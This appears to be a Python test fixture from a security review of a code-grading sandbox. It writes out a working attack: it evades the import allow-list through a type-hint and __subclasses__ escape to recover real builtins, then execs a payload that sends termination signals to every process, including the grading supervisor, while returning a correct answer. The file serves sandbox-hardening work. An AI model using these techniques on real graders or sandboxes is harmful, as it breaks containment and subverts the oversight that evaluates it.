"""Signal every other process of the sandbox (finding 4 of issue 12): the
supervisor runs as the same uid as the code under test, and a SIGINT it
received became a signed internal_error ("The grader failed unexpectedly
(KeyboardInterrupt)"), a platform error an attack must never produce. The
signals are sent at import and again in every call; the answer itself is right."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary (see timing_stop_reference.py)."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import os
import signal

import numpy as np

SIGNALS = (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM, signal.SIGQUIT)


def _signal_everyone():
    me = os.getpid()
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            for signum in SIGNALS:
                try:
                    os.kill(int(name), signum)
                except OSError:
                    pass
    for signum in SIGNALS:  # our process group holds the supervisor too
        try:
            os.killpg(os.getpgrp(), signum)
        except OSError:
            pass


signal.signal(signal.SIGINT, signal.SIG_IGN)
for _signum in SIGNALS:
    signal.signal(_signum, signal.SIG_IGN)
_signal_everyone()


def transform(x):
    _signal_everyone()
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
